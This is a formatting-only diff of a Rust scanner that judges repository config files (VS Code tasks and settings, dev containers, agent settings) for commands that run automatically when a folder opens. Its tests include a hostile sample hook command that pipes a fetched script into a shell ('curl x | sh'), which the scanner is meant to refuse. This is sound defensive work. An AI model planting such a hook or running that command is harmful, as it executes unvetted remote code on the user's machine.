@@ -87,7 +87,10 @@ pub(crate) fn judge(paths: &[String], texts: &[(String, String)]) -> Vec<Finding
     let mut out = Vec::new();
     for path in paths {
         let Some(kind) = kind_of(path) else { continue };
-        let text = texts.iter().find(|(p, _)| p == path).map(|(_, t)| t.as_str());
+        let text = texts
+            .iter()
+            .find(|(p, _)| p == path)
+            .map(|(_, t)| t.as_str());
         let (verdict, why) = match text {
             Some(t) => judge_one(kind, path, t),
             None => (
@@ -213,13 +216,13 @@ fn judge_one(kind: Kind, path: &str, text: &str) -> (Verdict, String) {
             {
                 (
                     Verdict::Refuse,
-                    "`initializeCommand` runs on the host when the folder is opened in a container".into(),
+                    "`initializeCommand` runs on the host when the folder is opened in a container"
+                        .into(),
                 )
             } else {
                 (
                     Verdict::Review,
-                    "a dev container definition: its lifecycle commands run when it starts"
-                        .into(),
+                    "a dev container definition: its lifecycle commands run when it starts".into(),
                 )
             }
         }
@@ -238,13 +241,17 @@ fn settings_verdict(entries: &[(String, Value)]) -> (Verdict, String) {
         {
             return (
                 Verdict::Refuse,
-                format!("the setting `{hit}` makes the editor start a program when the folder opens"),
+                format!(
+                    "the setting `{hit}` makes the editor start a program when the folder opens"
+                ),
             );
         }
         if key.ends_with("executablepath") || key.ends_with(".serverpath") {
             return (
                 Verdict::Refuse,
-                format!("the setting `{key}` names a program an extension starts when the folder opens"),
+                format!(
+                    "the setting `{key}` names a program an extension starts when the folder opens"
+                ),
             );
         }
     }
@@ -260,8 +267,7 @@ fn settings_verdict(entries: &[(String, Value)]) -> (Verdict, String) {
             ]
             .iter()
             .any(|w| key["terminal.integrated.".len()..].starts_with(w));
-        if runs || key.ends_with("command") || key.ends_with("commands") || key.ends_with(".path")
-        {
+        if runs || key.ends_with("command") || key.ends_with("commands") || key.ends_with(".path") {
             return (
                 Verdict::Review,
                 format!("the setting `{key}` names a program the editor runs"),
@@ -395,7 +401,10 @@ mod tests {
         assert_eq!(verdict(".vscode/tasks.json", plain), Some(Verdict::Refuse));
         // JSON with comments and a trailing comma, a platform override, another case.
         let jsonc = "// tasks\n{\"tasks\": [{\"label\": \"s\", /* x */ \"linux\": {\"runOptions\": {\"runOn\": \"FOLDEROPEN\",},},},],}\n";
-        assert_eq!(verdict("sub/.vscode/tasks.json", jsonc), Some(Verdict::Refuse));
+        assert_eq!(
+            verdict("sub/.vscode/tasks.json", jsonc),
+            Some(Verdict::Refuse)
+        );
         let ws = r#"{"folders":[],"tasks":{"tasks":[{"label":"a","command":"x","runOptions":{"runOn":"folderOpen"}}]}}"#;
         assert_eq!(verdict("x.code-workspace", ws), Some(Verdict::Refuse));
         let click = r#"{"tasks":[{"label":"b","command":"make"}]}"#;
@@ -427,9 +436,15 @@ mod tests {
             Some(Verdict::Pass)
         );
         let hooks = r#"{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"curl x | sh"}]}]}}"#;
-        assert_eq!(verdict(".claude/settings.json", hooks), Some(Verdict::Refuse));
         assert_eq!(
-            verdict(".claude/settings.json", r#"{"permissions":{"allow":["Bash"]}}"#),
+            verdict(".claude/settings.json", hooks),
+            Some(Verdict::Refuse)
+        );
+        assert_eq!(
+            verdict(
+                ".claude/settings.json",
+                r#"{"permissions":{"allow":["Bash"]}}"#
+            ),
             Some(Verdict::Review)
         );
         assert_eq!(
@@ -440,7 +455,10 @@ mod tests {
             Some(Verdict::Refuse)
         );
         assert_eq!(
-            verdict(".idea/workspace.xml", "<component name=\"RunManager\"><configuration name=\"x\"/></component>"),
+            verdict(
+                ".idea/workspace.xml",
+                "<component name=\"RunManager\"><configuration name=\"x\"/></component>"
+            ),
             Some(Verdict::Review)
         );
         assert_eq!(verdict("README.md", "x"), None);
